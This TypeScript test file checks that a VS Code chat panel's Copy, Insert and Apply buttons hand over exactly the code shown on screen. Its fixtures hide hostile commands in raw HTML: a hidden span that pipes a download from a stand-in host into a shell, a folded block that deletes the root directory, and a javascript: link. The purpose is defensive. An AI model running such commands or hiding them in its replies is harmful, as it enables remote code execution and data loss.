/**
 * The chat webview's bundle (media/build/chat.js) in real Chromium, with its real HTML and CSP and a
 * stand-in for VS Code's webview API, so a test can click the code buttons and read what they send.
 * What Copy, Insert and Apply take must be exactly what the panel shows.
 */
import * as assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { createNonce, renderChatHtml } from '../../src/extension/chatHtml';
import type { TranscriptMessage } from '../../src/webview/messages';
import { repoRoot } from '../support/paths';

const CHROMIUM = process.env.CHIMERA_CHROMIUM ?? '/usr/bin/chromium';

/** The page's globals this test uses (the engine tier type-checks without the DOM library). */
interface PanelGlobals {
  __posted: { type: string; action?: string; code?: string }[];
  acquireVsCodeApi(): unknown;
  postMessage(message: unknown, origin: string): void;
}

/** Serves the panel's HTML, script and stylesheet the way the webview host does. */
async function servePanel(): Promise<{ server: Server; url: string }> {
  const server = createServer((req, res) => {
    const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    if (req.url === '/chat.js') return void res.writeHead(200, { 'content-type': 'text/javascript' }).end(readFileSync(join(repoRoot, 'media/build/chat.js')));
    if (req.url === '/chat.css') return void res.writeHead(200, { 'content-type': 'text/css' }).end(readFileSync(join(repoRoot, 'media/chat.css')));
    res.writeHead(200, { 'content-type': 'text/html' }).end(renderChatHtml({ cspSource: origin, nonce: createNonce(), scriptUri: `${origin}/chat.js`, styleUri: `${origin}/chat.css` }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/` };
}

const HIDDEN_SPAN = '<pre><code>print("hello")<span hidden>\nimport os; os.system("curl evil.example | sh")</span></code></pre>';
const FOLDED = '<pre><code>x = 1<details><summary></summary>\nimport os; os.remove("/")</details></code></pre>';
const FENCED = '```python\ndef add(a, b):\n    return a + b\n```';

describe('chat webview code blocks (real Chromium, the built webview bundle)', function () {
  this.timeout(60_000);
  let browser: Browser;
  let page: Page;
  let panel: { server: Server; url: string };

  before(async function () {
    if (!existsSync(CHROMIUM)) this.skip();
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-dev-shm-usage'] });
    panel = await servePanel();
  });
  after(async () => {
    await browser?.close();
    panel?.server.close();
  });

  beforeEach(async () => {
    page = await browser.newPage();
    await page.addInitScript(() => {
      const panel = globalThis as unknown as PanelGlobals;
      panel.__posted = [];
      panel.acquireVsCodeApi = () => ({ postMessage: (m: { type: string }) => panel.__posted.push(m), getState: () => undefined, setState: () => undefined });
    });
    await page.goto(panel.url);
    await page.waitForFunction(() => (globalThis as unknown as PanelGlobals).__posted.some((m) => m.type === 'ready'));
  });
  afterEach(() => page.close());

  /** Shows one finished assistant reply with `text` as its markdown. */
  async function show(text: string): Promise<void> {
    const message: TranscriptMessage = { id: 'r1', role: 'assistant', text, status: 'done' };
    await page.evaluate((m) => (globalThis as unknown as PanelGlobals).postMessage({ type: 'transcript', messages: [m] }, '*'), message);
    await page.waitForSelector('.message-body');
  }

  /** Clicks a code block's button and returns the code the panel sent to the host. */
  async function click(block: number, label: string): Promise<string | undefined> {
    await page.locator('.code-block').nth(block).getByRole('button', { name: label, exact: true }).click();
    return page.evaluate(() => (globalThis as unknown as PanelGlobals).__posted.filter((m) => m.type === 'codeAction').at(-1)?.code);
  }

  it('Copy, Insert and Apply take a fenced block\'s source, exactly', async () => {
    await show(`Here:\n\n${FENCED}`);
    for (const label of ['Copy', 'Insert', 'Apply…']) assert.equal(await click(0, label), 'def add(a, b):\n    return a + b');
  });

  it('no button takes hidden text: hidden spans and folded details in raw HTML code are shown or get no buttons', async () => {
    await show(`${HIDDEN_SPAN}\n\n${FOLDED}\n\n${FENCED}`);
    // The rule, whatever the design: a block's Copy gives what its <pre> shows on screen.
    const blocks = await page.locator('.code-block').count();
    for (let i = 0; i < blocks; i++) {
      const onScreen = await page.locator('.code-block').nth(i).locator('pre').evaluate((pre: { innerText: string }) => pre.innerText.replace(/\n$/, ''));
      assert.equal(await click(i, 'Copy'), onScreen, `block ${i}`);
    }
    // Only the real code block has buttons, and they take its source, not the raw HTML blocks' text.
    assert.equal(await page.locator('.code-block').count(), 1);
    assert.equal(await click(0, 'Copy'), 'def add(a, b):\n    return a + b');
    // The raw HTML blocks hide nothing any more: what they hold is on screen.
    const shown = await page.locator('.message-body pre').evaluateAll((pres: { innerText: string }[]) => pres.map((p) => p.innerText));
    assert.match(shown[0]!, /import os; os\.system/, 'the hidden attribute is gone');
    assert.match(shown[1]!, /import os; os\.remove/, 'the details element is unwrapped');
    assert.equal(await page.locator('.message-body [hidden], .message-body pre details, .message-body code summary').count(), 0);
  });

  it('keeps harmless attributes the URL rule used to strip: a "3." list starts at 3, table cells keep align', async () => {
    await show('3. third\n4. fourth\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n<table><tr><td colspan="2">wide</td></tr></table>');
    assert.equal(await page.locator('.message-body ol').evaluate((ol: { start: number }) => ol.start), 3);
    assert.equal(await page.locator('.message-body th').first().getAttribute('align'), 'center');
    assert.equal(await page.locator('.message-body td[colspan]').getAttribute('colspan'), '2');
    // A link still needs a safe URL.
    await show('[x](javascript:alert(1)) <a href="relative/path">y</a>');
    assert.equal(await page.locator('.message-body a[href]').count(), 0);
  });

  it('a block with no code gets no buttons: empty and whitespace-only fences, in replies and attachments', async () => {
    await show(`Nothing here:\n\n\`\`\`python\n\`\`\`\n\nNor here:\n\n\`\`\`\n   \n\t\n\`\`\`\n\n${FENCED}`);
    // Three <pre> are shown, but only the one with code is wrapped with Copy / Insert / Apply….
    assert.equal(await page.locator('.message-body pre').count(), 3);
    assert.equal(await page.locator('.code-block').count(), 1);
    assert.equal(await page.locator('.message-body button').count(), 3);
    assert.equal(await click(0, 'Apply…'), 'def add(a, b):\n    return a + b');
    // An empty attachment on a question gets no Copy either.
    const question: TranscriptMessage = { id: 'q1', role: 'user', text: 'Explain', attachment: { label: 'empty.py:1', languageId: 'python', code: '  \n' } };
    await page.evaluate((m) => (globalThis as unknown as PanelGlobals).postMessage({ type: 'transcript', messages: [m] }, '*'), question);
    await page.waitForSelector('.attachment-label');
    assert.equal(await page.locator('.message-body pre').count(), 1);
    assert.equal(await page.locator('.code-block, .message-body button').count(), 0);
  });

  it('each reply names the model that wrote it; a reply restored from an older history names none', async () => {
    const messages: TranscriptMessage[] = [
      { id: 'u1', role: 'user', text: 'Hi' },
      { id: 'a1', role: 'assistant', text: 'From before', status: 'done' },
      { id: 'a2', role: 'assistant', text: 'Hello', status: 'done', model: 'chimera-code-default' },
    ];
    await page.evaluate((m) => (globalThis as unknown as PanelGlobals).postMessage({ type: 'transcript', messages: m }, '*'), messages);
    await page.waitForSelector('.message-model');
    const named = await page.locator('.message').evaluateAll((nodes: { querySelector(s: string): { textContent: string | null } | null }[]) => nodes.map((n) => n.querySelector('.message-model')?.textContent ?? null));
    assert.deepEqual(named, [null, null, 'chimera-code-default']);
    assert.equal(await page.locator('.message-model').isVisible(), true);
  });

  it('a code block written as raw HTML cannot claim another block\'s source', async () => {
    // A guessed marker class is just a class: the real marker is random for every render.
    await show(`<pre class="chimera-src-0-0"><code>evil()</code></pre>\n\n${FENCED}`);
    assert.equal(await page.locator('.code-block').count(), 1);
    assert.equal(await click(0, 'Copy'), 'def add(a, b):\n    return a + b');
  });
});
